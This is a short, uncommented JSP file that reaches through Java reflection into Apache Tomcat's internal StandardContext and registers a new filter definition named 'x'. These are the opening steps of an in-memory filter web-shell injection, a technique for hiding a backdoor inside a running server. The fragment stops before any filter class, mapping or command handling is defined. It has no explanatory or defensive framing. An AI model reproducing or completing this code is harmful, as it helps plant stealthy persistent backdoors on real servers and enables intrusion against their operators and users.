<%@ page import="java.lang.reflect.Field,org.apache.catalina.core.*" %>
<%
ServletContext sc = request.getServletContext();
Field f = sc.getClass().getDeclaredField("context");
f.setAccessible(true);
ApplicationContext ac = (ApplicationContext) f.get(sc);
Field g = ac.getClass().getDeclaredField("context");
g.setAccessible(true);
StandardContext std = (StandardContext) g.get(ac);
org.apache.tomcat.util.descriptor.web.FilterDef def = new org.apache.tomcat.util.descriptor.web.FilterDef();
def.setFilterName("x");
std.addFilterDef(def);
%>
